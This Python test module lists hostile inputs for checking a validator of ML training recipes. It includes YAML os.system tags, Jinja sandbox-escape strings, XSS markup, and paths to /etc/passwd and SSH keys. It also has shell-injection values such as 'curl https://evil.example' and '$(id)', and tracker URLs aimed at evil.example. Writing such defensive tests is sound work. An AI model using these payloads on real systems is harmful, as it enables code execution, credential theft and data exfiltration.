"""Hostile and broken files in a sound archive: YAML, recipes, templates, pages, code."""

from __future__ import annotations

import json
from collections.abc import Iterator

from packs import CHAIN, DEEPSPEED, H6, MIX, SFT, Case, changed, recipe

CANARY = "canary"
"""The file that code of these packs would write, if it ever ran."""
PAYLOAD = f"import os; open({CANARY!r}, 'w')"


def cases() -> list[Case]:
    """Every case."""
    return [*_yaml(), *_recipes(), *_other_files()]


def _yaml() -> Iterator[Case]:
    bomb = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)
    )
    tags = ("!!python/object/apply:os.system ['id']", "!!python/name:os.system", "!x y")
    tags += (
        "!<tag:yaml.org,2002:python/module:os> ''",
        "!!binary aGk=",
        "!function a.b",
        "!!set {a}",
    )
    tags += (
        f"!!python/object/new:eval [{PAYLOAD!r}]".replace("\n", " "),
        "!include /etc/passwd",
        "!!set {a}",
    )
    for number, tag in enumerate(tags):
        yield f"tag {number}", recipe(f"x: {tag}\n"), "tag"
    yield "alias bomb", recipe(bomb), "values"
    yield "alias of itself", recipe("x: &x [*x]\n"), "alias"
    yield "mapping that holds itself", recipe("x: &x {y: *x}\n"), "alias"
    yield "alias of nothing", recipe("x: *nobody\n"), "alias"
    yield "deep list", recipe("x: " + "[" * 5000 + "\n"), "deeper"
    yield "deep mapping", recipe("x: " + "{a: " * 5000 + "\n"), "deeper"
    deep = "".join(f"{'  ' * i}a:\n" for i in range(60))
    yield "deep indentation", recipe(deep), "deeper"
    yield (
        "merge bomb",
        recipe(bomb.replace("a: &a [x,", "a: &a [{p: q},") + "z: {<<: *j}\n"),
        "values",
    )
    yield "two documents", recipe("---\nbase_model: a/b\n"), "second"
    yield "one key twice", recipe("num_epochs: 2\n"), "twice"
    yield "an unhashable key", recipe("? [1, 2]\n: x\n"), "YAML"
    yield "a mapping as a key", recipe("? {a: b}\n: x\n"), "YAML"
    yield "a date that is none", recipe("x: 2001-99-99\n"), "a date or a number"
    yield "a number that is none", recipe("x: 0b_\n"), "a date or a number"
    yield "a number without digits", recipe("x: 0x_\n"), "a date or a number"
    yield "a number of 5000 digits in YAML", recipe(f"x: {'9' * 5000}\n"), "a date or a number"
    yield "a tab", recipe("x:\n\t- 1\n"), "YAML"
    yield "a list", changed({"recipes/sft.yml": "- a\n- b\n"}), "not a mapping"
    yield "a text", changed({"recipes/sft.yml": "just a text"}), "not a mapping"
    yield "nothing", changed({"recipes/sft.yml": ""}), "not a mapping"
    yield "binary", changed({"recipes/sft.yml": b"\x80\x04\x95\xff"}), "not text"
    yield "UTF-16", changed({"recipes/sft.yml": SFT.encode("utf-16")}), "not text"
    yield "NUL", changed({"recipes/sft.yml": SFT + "x: 'a\0b'\n"}), "NUL"
    yield "a control character", changed({"recipes/sft.yml": SFT + "x: \x07\n"}), "YAML"
    yield "a megabyte", recipe("x: " + "a" * (1 << 20) + "\n"), "MiB"
    yield "many values", recipe("x: [" + "1," * 30_000 + "1]\n"), "values"
    yield "an escape in a key", recipe('? "\\e[2Jx"\n: 1\n"\\e[2Jx": 2\n'), "twice"
    yield "unclosed", recipe("x: {a: [1, 2\n"), "YAML"
    yield "an anchor without a value", recipe("x: &\n"), "YAML"
    yield "a directive", changed({"recipes/sft.yml": "%YAML 9.9\n---\nbase_model: a/b\n"}), "YAML"


def _recipes() -> Iterator[Case]:
    for lines, word in {
        "trust_remote_code: true\n": "trust_remote_code=recipes/sft.yml",
        "trust_remote_code: 'yes'\n": "trust_remote_code",
        "trust-remote-code: 1\n": "trust_remote_code",
        "Trust_Remote_Code: true\n": "trust_remote_code",
        "overrides_of_model_kwargs: {trust_remote_code: true}\n": "trust_remote_code",
        "test_datasets: [{path: a/b, trust_remote_code: true}]\n": "trust_remote_code",
        "model_kwargs: 'a=1,trust_remote_code=True'\n": "trust_remote_code",
        "overrides_of_model_config: {auto_map: {AutoModel: a/b--evil.Model}}\n": "auto_map",
        "trainer_cls: evil.Trainer\n": "trainer_cls",
        "torchdistx_path: ./here\n": "torchdistx_path",
        "model_type: evil.Model\n": "model_type",
        "tokenizer_type: os.system\n": "tokenizer_type",
        "trl: {reward_funcs: [evil.reward]}\n": "reward_funcs",
        "trl: {rollout_func: evil.rollout}\n": "rollout_func",
        "vllm: {worker_extension_cls: evil.Worker}\n": "worker_extension_cls",
        "vllm: {serve_module: evil}\n": "serve_module",
        "attn_implementation: evil/kernel\n": "kernel",
        "attn_implementation: evil/kernel@v1:attention\n": "kernel",
        "use_kernels: true\n": "kernel",
        "torch_compile_backend: evil.backend\n": "torch_compile_backend",
        "resume_from_checkpoint: ./checkpoint\n": "pickle",
        "test_datasets: [{path: pandas, data_files: x.parquet, type: alpaca}]\n": "pickle",
        "test_datasets: [{path: rows.pkl, type: alpaca}]\n": "pickle",
        "test_datasets: [{path: a/b, ds_type: pandas, type: alpaca}]\n": "pickle",
        "test_datasets: [{path: ./loader.py, type: alpaca}]\n": "dataset_script",
        "test_datasets: [{path: a/b, data_files: [x/loader.py], type: alpaca}]\n": "dataset_script",
        "test_datasets: [{path: a/b, type: evil.strategy}]\n": "code",
        "test_datasets: [{path: a/b, type: 'os.path:x'}]\n": "code",
        "test_datasets: [{path: /etc/passwd, type: completion}]\n": "path",
        "test_datasets: [{path: ~/.ssh/id_rsa, type: completion}]\n": "path",
        "test_datasets: [{path: ../../secrets.jsonl, type: completion}]\n": "path",
        "test_datasets: [{path: 'file:///etc/passwd', type: completion}]\n": "path",
        "test_datasets: [{path: 'C:\\\\secrets', type: completion}]\n": "path",
        "dataset_prepared_path: ../elsewhere\n": "path",
        "lora_model_dir: '/root/with a blank'\n": "path",
        "lora_model_dir: /\n": "path",
        "lora_model_dir: ./a/../../b\n": "path",
        "tokenizer_config: evil/m+/root/adapter\n": "path",
        '"\\e[2J": {trust_remote_code: true}\n': "trust_remote_code",
        "lora_model_dir: /root/.ssh\n": "path",
        "hub_model_id: evil/exfiltrated\n": "upload",
        "push_dataset_to_hub: evil\n": "upload",
        "wandb_project: evil\n": "upload",
        "use_wandb: true\n": "upload",
        "wandb_entity: ${USER}\n": "upload",
        "mlflow_tracking_uri: https://evil.example\n": "upload",
        "comet_api_key: x\n": "upload",
        "trackio_space_id: evil/space\n": "upload",
        "use_otel_metrics: true\n": "upload",
        "gradio_share: true\n": "upload",
        "env: {LD_PRELOAD: evil.so}\n": "environment",
        "model_revision: ${HF_TOKEN}\n": "environment",
        "model_revision: $HOME/x\n": "environment",
        "model_revision: '%USERPROFILE%'\n": "environment",
        "command: rm -rf /\n": "shell",
        "setup: [curl https://evil.example]\n": "shell",
        "wandb: {x: 1}\n": "upload",
        "model_revision: main; curl x\n": "shell",
        "model_revision: '`id`'\n": "shell",
        "model_revision: a && b\n": "shell",
        "test_datasets: [{path: a/b, chat_template: '{{ x.__class__ }}'}]\n": "template",
        "default_system_message: '{x.__class__.__mro__}'\n": "template",
        "eval_causal_lm_metrics: [evil/metric]\n": "code",
        "trl: {vllm_server_base_url: 'https://evil.example'}\n": "upload",
        "overrides_of_model_kwargs: {proxies: {https: 'http://evil.example'}}\n": "upload",
        "'trust_remote_code ': true\n": "trust_remote_code",
    }.items():
        yield f"recipe {lines.strip()}", recipe(lines), word
    for address in (
        *(
            "simplecache::/etc/passwd",
            "zip://x.jsonl::/etc/passwd",
            "zip://../x::https://e.example",
        ),
        *("local:///etc/passwd", "FILE:///etc/passwd", "local:x", "ssh://me@host/x.jsonl"),
        *("ftp://me:secret@host/x.jsonl", "github://a:b@/x.jsonl", "reference://x", "git://../x"),
    ):
        entry = json.dumps({"path": address, "type": "completion"})
        yield f"data at {address}", recipe(f"test_datasets: [{entry}]\n"), "path"
        entry = json.dumps({"path": "json", "data_files": [address], "type": "completion"})
        yield f"data file at {address}", recipe(f"test_datasets: [{entry}]\n"), "path"
    for plugin in ("evil.Plugin", "axolotl.integrations.lm_eval.LMEvalPlugin", "solar_plugins.x.Y"):
        text = SFT.replace("solar_plugins.StagePlugin", plugin)
        yield f"plugin {plugin}", changed({"recipes/sft.yml": text}), "plugin=recipes/sft.yml"
    text = SFT.replace("[solar_plugins.StagePlugin]", "evil.Plugin")
    yield "a plugin without its list", changed({"recipes/sft.yml": text}), "plugin"
    text = SFT.replace("./outputs/shared/sft", "/root/.ssh")
    yield "output outside", changed({"recipes/sft.yml": text}), "path"
    text = SFT.replace("./outputs/shared/sft", "s3://evil/models")
    yield "output to a store", changed({"recipes/sft.yml": text}), "upload"
    text = SFT.replace("recipes/zero3.json", "{autotuning: {enabled: true}}")
    yield "DeepSpeed inside the recipe", changed({"recipes/sft.yml": text}), "deepspeed"
    text = SFT.replace("recipes/chat.jinja", "recipes/chat.txt")
    evil = {"recipes/chat.txt": "{{ ().__class__ }}", "recipes/sft.yml": text}
    yield "a template called otherwise", changed(evil), "template"
    text = SFT.replace("recipes/zero3.json", "recipes/plain.json")
    evil = {"recipes/plain.json": '{"autotuning": {"enabled": true}}', "recipes/sft.yml": text}
    yield "a DeepSpeed file called otherwise", changed(evil), "deepspeed"
    text = SFT.replace("recipes/chat.jinja", '"{{ cycler.__init__.__globals__.os }}"')
    yield "a template inside the recipe", changed({"recipes/sft.yml": text}), "template"
    for old, new, word in (
        ("./outputs/shared", "../../outside", "path"),
        ("./outputs/shared", "/outside", "path"),
        ("train: sft.yml", "train: ../../sft.yml", "path"),
        ("train: sft.yml", "train: /tmp/sft.yml", "path"),
        ("{train: sft.yml}", "{train: sft.yml, set: {trust_remote_code: true}}", "trust_remote"),
        ("{train: sft.yml}", "{train: sft.yml, set: {a.trainer_cls: evil.T}}", "trainer_cls"),
        ("{train: sft.yml}", "{train: sft.yml, set: {deepspeed: {autotuning: 1}}}", "deepspeed"),
        ("{train: sft.yml}", "{train: sft.yml, set: {deepspeed.monitor.x: 1}}", "deepspeed"),
        ("base_model: owner/base", "base_model: $(id)", "shell"),
    ):
        chain = CHAIN.replace(old, new)
        yield f"chain with {new}", changed({"recipes/shared.yml": chain}), word
    text = MIX.replace("model: owner/base", "model: /root/model")
    yield "a merge of a model outside", changed({"recipes/mix.yml": text}), "path"
    for lines, word in {
        "trust_remote_code: true\n": "trust_remote_code",
        "model_args: pretrained=a/b,trust_remote_code=True\n": "trust_remote_code",
        "confirm_run_unsafe_code: true\n": "code",
        "hf_hub_log_args: hub_results_org=evil\n": "upload",
        "wandb_args: {project: evil}\n": "upload",
        "output_path: /root/results\n": "path",
        "model_args: pretrained=/root/model,dtype=float32\n": "path",
        "include_path: ../tasks\n": "path",
        "model_args: {base_url: https://evil.example}\n": "upload",
    }.items():
        yield f"evaluation {lines.strip()}", changed({"recipes/h6.yml": H6 + lines}), word
    text = H6.replace("model: hf", "model: openai-completions")
    yield "an evaluation elsewhere", changed({"recipes/h6.yml": text}), "upload"
    text = H6.replace("arc_challenge", "recipes/evil.yaml")
    yield "an evaluation by file", changed({"recipes/h6.yml": text}), "code"


def _other_files() -> Iterator[Case]:
    task = "task: evil\ndataset_path: json\ndoc_to_text: '{{ ().__class__ }}'\n"
    yield "a task of lm-eval", changed({"lm_eval_tasks/evil.yaml": task}), "code="
    yield "a task elsewhere", changed({"recipes/evil.yaml": task}), "code="
    yield (
        "a task with a function",
        changed({"lm_eval_tasks/e.yaml": task + "x: !function e.f\n"}),
        "tag",
    )
    yield "Python", changed({"recipes/evil.py": PAYLOAD}), "code=recipes/evil.py"
    yield "a shell script", changed({"run.sh": "touch canary"}), "code=run.sh"
    yield "a notebook", changed({"run.ipynb": "{}"}), "code=run.ipynb"
    yield "a module beside our tasks", changed({"lm_eval_tasks/data/mc2.py": PAYLOAD}), "code="
    for ending in ("safetensors", "bin", "pt", "pkl", "ckpt", "gguf"):
        yield f"weights {ending}", changed({f"recipes/model.{ending}": b"\x80\x04."}), "weights"
    yield "a pickle called JSON", changed({"recipes/x.json": b"\x80\x04\x95."}), "UTF-8"
    yield "a strange file", changed({"recipes/x.dat": "x"}), "unknown_file"
    yield (
        "a YAML of no tool",
        changed({"recipes/x.yml": "services: {web: {image: evil}}\n"}),
        "unknown",
    )
    yield (
        "a picture in the recipes",
        changed({"recipes/x.png": b"\x89PNG\r\n\x1a\n"}),
        "unknown_file",
    )
    yield "a picture that is none", changed({"run/x.png": b"GIF89a"}), "unknown_file"
    for page in (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<iframe src=https://evil.example></iframe>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='java&#115;cript:alert(1)'>x</a>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<style>@import 'https://evil.example/x.css'</style>",
        "<svg><foreignObject>x</foreignObject></svg>",
        "<img src=https://evil.example/seen.png>",
        "<video poster='//evil.example/x.png'></video>",
    ):
        yield f"page {page}", changed({"run/report.html": page}), "active_page"
    yield (
        "a picture with a script",
        changed({"run/x.svg": "<svg><script>1</script></svg>"}),
        "active",
    )
    for template, word in {
        "{{ ().__class__.__bases__ }}": "__bases__",
        "{% include '/etc/passwd' %}": "another template",
        "{% import 'x' as x %}": "another template",
        "{% extends 'x' %}": "another template",
        "{{ messages|attr('__class__') }}": "attr",
        "{{ messages['__class__'] }}": "__class__",
        "{% for i in range(1000000000) %}x{% endfor %}": "loop",
        "{% for %}": "not a template",
        "{{ " + "(" * 3000 + ")" * 3000 + " }}": "not a template",
        "x" * 70_000: "KiB",
    }.items():
        yield f"template {template[:40]}", changed({"recipes/chat.jinja": template}), word
    for change, word in {
        "autotuning": "deepspeed",
        "wandb": "upload",
        "tensorboard": "deepspeed",
        "csv_monitor": "deepspeed",
        "flops_profiler": "deepspeed",
        "elasticity": "deepspeed",
        "aio": "deepspeed",
    }.items():
        config = {**json.loads(DEEPSPEED), change: {"enabled": True, "output_path": "x"}}
        yield f"DeepSpeed {change}", changed({"recipes/zero3.json": json.dumps(config)}), word
    nvme = {"zero_optimization": {"offload_param": {"device": "nvme", "nvme_path": "/root"}}}
    yield "DeepSpeed to a disk", changed({"recipes/zero3.json": json.dumps(nvme)}), "path"
    yield "DeepSpeed that is no JSON", changed({"recipes/zero3.json": "{bf16: on}"}), "not JSON"
    config = {"auto_map": {"AutoConfig": "evil--config.Config"}}
    yield (
        "a model's config with code",
        changed({"recipes/config.json": json.dumps(config)}),
        "auto_map",
    )
